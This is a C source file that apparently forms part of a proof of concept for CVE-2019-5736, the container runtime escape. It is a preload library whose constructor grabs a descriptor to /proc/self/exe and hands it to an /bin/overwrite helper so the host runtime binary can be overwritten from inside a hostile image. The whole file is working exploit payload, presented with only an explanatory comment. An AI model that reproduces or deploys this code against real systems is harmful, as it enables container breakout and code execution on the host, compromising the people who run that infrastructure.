/*
 * The payload of CVE-2019-5736, as a hostile image ships it: a library
 * named in the image's /etc/ld.so.preload, so that it runs inside any
 * dynamic program the container executes. When /bin/sh is a symlink to
 * /proc/self/exe, that program is the runtime itself. The library keeps
 * an fd of /proc/self/exe (100) and hands it to /bin/overwrite, which
 * reopens it for writing once the runtime has exited.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void
keep_exe(void)
{
    char *argv[] = {"overwrite", "100", NULL};
    int fd;

    fd = open("/proc/self/exe", O_RDONLY);
    if (fd == -1 || dup2(fd, 100) == -1) {
        perror("open /proc/self/exe");
        _exit(3);
    }
    execve("/bin/overwrite", argv, environ);
    perror("exec /bin/overwrite");
    _exit(3);
}
